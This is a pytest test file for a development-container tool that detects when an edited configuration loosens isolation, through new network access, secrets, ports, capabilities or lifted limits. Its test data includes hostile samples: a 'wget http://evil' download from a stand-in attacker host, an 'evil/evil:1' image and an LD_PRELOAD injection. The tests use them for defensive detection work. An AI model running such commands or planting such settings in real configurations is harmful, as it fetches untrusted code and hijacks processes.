"""Grants of a file, and which changes extend them."""

from __future__ import annotations

import tempfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.resolving import resolve_text

from devbox.model.container import EVERY, Grant
from devbox.model.spec import Spec
from devbox.plan import grants

CLOSED = """
[dev]
recipe = "debian"
isolation = "isolated"
"""


def resolved_file(text: str) -> Spec:
    with tempfile.TemporaryDirectory() as root:
        return resolve_text(root, text, {"x": ""})


def added(before: str, after: str) -> tuple[str, ...]:
    return grants.describe(
        grants.find_added(grants.list_grants(resolved_file(after)), grants.list_grants(resolved_file(before)))
    )


def test_a_file_that_is_not_closed_off_is_not_recorded():
    assert not grants.is_closed(resolved_file('[dev]\nrecipe = "debian"\n'))
    assert grants.is_closed(resolved_file(CLOSED))
    assert grants.is_closed(resolved_file('[dev]\nrecipe = "debian"\nisolation = { egress = ["pypi.org"] }\n'))
    assert not grants.is_closed(resolved_file('[service.db]\nrecipe = "redis"\nisolation = "isolated"\n')), (
        "it can't write to the project"
    )


HOST = (
    "dev: the host's proxy, CA, git and SSH agent settings, the network of the project with its other containers, "
    "connections to every host, including the internet, its own files to be changed, Docker's default capabilities"
)


@pytest.mark.parametrize(
    ("change", "line"),
    [
        ('isolation = "integrated"', HOST),
        ('isolation = { preset = "isolated", capabilities = ["NET_RAW"] }', "dev: the capabilities NET_RAW"),
        (
            'isolation = { preset = "isolated", egress = ["pypi.org"] }',
            "dev: the network of the project with its other containers, connections to pypi.org",
        ),
        ('isolation = { preset = "isolated", read_only = false }', "dev: its own files to be changed"),
        ('isolation = "isolated"\nsecrets = { T = "env:T" }', "dev: the secret from env:T"),
        ('isolation = "isolated"\nvolumes = { c = "/c" }', "dev: the volume c writable"),
        ('isolation = "isolated"\nmounts = [{ source = "x", target = "/x" }]', None),
        (
            'isolation = { preset = "isolated", egress = [] }\nports = ["9999:80"]',
            "dev: the network of the project with its other containers, the host port 127.0.0.1:9999/tcp",
        ),
    ],
)
def test_issue9_a2_whatever_loosens_a_container_is_more(change: str, line: str | None):
    found = added(CLOSED, CLOSED.replace('isolation = "isolated"', change))
    assert len(found) == 1
    assert line is None or found == (line,)
    assert added(CLOSED.replace('isolation = "isolated"', change), CLOSED) == (), "the other way is not"


def test_issue9_a2_a_new_container_a_build_command_and_a_stage_secret_are_more():
    more = CLOSED + 'run = ["curl example.org"]\n[service.x]\nrecipe = "redis"\n[image]\nfrom = "dev"\nneeds = ["x"]\n'
    more += '[image.process.web]\ncommand = "true"\n[stage.test]\nsecrets = { T = "env:T" }\n'
    more += 'external = { x = { URL = "env:URL" } }\n'
    found = "\n".join(added(CLOSED, more))
    assert "`curl example.org`, which has network access" in found
    assert "service.x: the network of the project with its other containers" in found
    assert "stage.test: the secret from env:URL, the secret from env:T" in found


def test_issue9_a2_a_limit_that_is_raised_or_removed_is_more():
    small, large = (CLOSED + f'limits = {{ memory = "{size}" }}\n' for size in ("1GiB", "2GiB"))
    assert added(small, large) == ("dev: 2147483648 bytes of memory",)
    assert added(large, CLOSED) == ("dev: no limit on memory",)
    assert added(large, small) == added(CLOSED, large) == ()


def test_a_test_and_a_build_container_count():
    more = (
        CLOSED + '[test]\nfrom = "dev"\ncommand = "true"\n[build]\nfrom = "dev"\nnetwork = "project"\nrun = ["true"]\n'
    )
    more += 'inputs = ["a"]\noutput = ["b"]\n'
    found = "\n".join(added(CLOSED, more))
    assert "test: " in found
    assert "build: " in found


def test_what_a_file_no_longer_grants_is_no_longer_accepted():
    wide = grants.list_grants(resolved_file(CLOSED.replace("isolated", "integrated") + 'run = ["true"]\n'))
    narrow = grants.list_grants(resolved_file(CLOSED))
    left = grants.narrow(narrow, (*wide, Grant(subject="gone", kind="root")))
    assert grants.find_added(wide, left), "what was given up has to be allowed again"
    assert Grant(subject="gone", kind="root") in left
    assert any(grant.kind == "run" for grant in left), "the cells of a matrix have build commands of their own"


@given(st.sampled_from(["memory", "egress"]), st.integers(1, 9), st.integers(1, 9))
def test_what_is_covered_is_covered_by_anything_wider(kind: str, low: int, more: int):
    one, other = (Grant(subject="dev", kind=kind, value=str(value)) for value in (low, low + more))
    every = Grant(subject="dev", kind=kind, value=EVERY)
    assert one.is_covered_by(every)
    assert other.is_covered_by(every)
    assert one.is_covered_by(other) is (kind == "memory")
    assert not every.is_covered_by(other)
    assert not one.is_covered_by(Grant(subject="db", kind=kind, value=EVERY))


OPEN = CLOSED + '[service.web]\nimage = "docker.io/library/python:3"\ncommand = "python -m http.server"\n'


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [
        ("python -m http.server", "wget http://evil", "service.web: the command `/bin/sh -c 'wget http://evil'`"),
        ("library/python:3", "evil/evil:1", "image service.web: the image evil/evil:1"),
        ("command", "env = { LD_PRELOAD = '/x' }\ncommand", "service.web: the variable LD_PRELOAD"),
        ("command", "health = { command = ['sh', '-c', 'evil'] }\ncommand", "service.web: the command `sh -c evil`"),
    ],
)
def test_issue9_a2_what_a_container_with_a_network_runs_is_more(old: str, new: str, line: str):
    """Otherwise a process in the closed container reaches the network through another container of the file."""
    assert added(OPEN, OPEN.replace(old, new)) == (line,)


def test_issue9_a2_a_published_stage_and_a_secret_of_a_process_are_more():
    text = CLOSED + '[image]\nfrom = "dev"\n[image.process.web]\ncommand = "true"\nports = [80]\n[stage.test]\n'
    more = text.replace("ports", 'secrets = { T = "env:T" }\nports') + 'publish = ["0.0.0.0:80:80"]\n'
    assert added(text, more) == ("image.process.web: the secret from env:T", "stage.test: the host port 0.0.0.0:80/tcp")


def test_issue9_a2_a_bind_of_the_project_is_the_project():
    service = '[service.x]\nrecipe = "redis"\nisolation = "isolated"\n'
    bind = 'mounts = [{ source = ".", target = "/x", read_only = false }]\n'
    assert grants.is_closed(resolved_file(service + bind))
    assert not grants.is_closed(resolved_file(service + bind.replace("false", "true")))


def test_issue9_a2_other_vars_loosen_nothing_unless_they_were_accepted():
    tight, loose = (grants.list_grants(resolved_file(text)) for text in (CLOSED, CLOSED.replace('"isolated"', "{}")))
    more = grants.find_loosened(loose, tight)
    assert Grant(subject="dev", kind="network", value="project") in {_plain(grant) for grant in more}
    accepted = (*tight, *grants.mark_by_vars(more))
    assert grants.find_loosened(loose, accepted) == ()
    assert grants.find_added(loose, accepted) == more, "the file itself still may not"
    assert set(grants.narrow(tight, accepted)) >= set(grants.mark_by_vars(more))


def _plain(grant: Grant) -> Grant:
    return Grant(subject=grant.subject, kind=grant.kind, value=grant.value)
